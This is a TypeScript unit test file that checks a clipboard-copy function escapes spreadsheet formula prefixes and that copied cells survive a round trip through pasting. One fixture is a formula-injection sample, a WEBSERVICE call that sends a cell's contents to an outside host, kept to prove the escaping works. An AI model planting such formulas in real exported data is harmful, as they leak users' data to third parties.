import assert from 'node:assert/strict';
import fc from 'fast-check';
import { copiedCells } from '../../../../src/base/cells/copiedCells';
import { pastedCells } from '../../../../src/workspace/table/staging/pastedCells';

describe('copiedCells', () => {
  it('of several are no formulas to a spreadsheet', () => {
    const rows = [
      ['=WEBSERVICE("https://example.org/?"&B1)', '-5', 'Weekly note'],
      ['+61 491 570 006', '@home', "'tis"],
    ];
    assert.equal(
      copiedCells(rows),
      `"'=WEBSERVICE(""https://example.org/?""&B1)"\t-5\tWeekly note\n'+61 491 570 006\t'@home\t''tis`,
    );
  });

  it('leave a single one as it is', () => {
    assert.equal(copiedCells([['+61 491 570 006']]), '+61 491 570 006');
  });

  it('are the same when they are pasted', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '"', '\t', '\n', 'a', '1', ' ') });
    const rows = fc
      .integer({ min: 1, max: 3 })
      .chain((width) =>
        fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 3 }),
      );
    fc.assert(
      fc.property(rows, (cells) => {
        const width = cells[0]?.length ?? 0;
        const pasted = pastedCells(copiedCells(cells), cells.length, width);
        assert.deepEqual(
          pasted.map(({ row, column, text }) => [row, column, text]),
          cells.flatMap((line, row) => line.map((text, column) => [row, column, text])),
        );
      }),
    );
  });
});
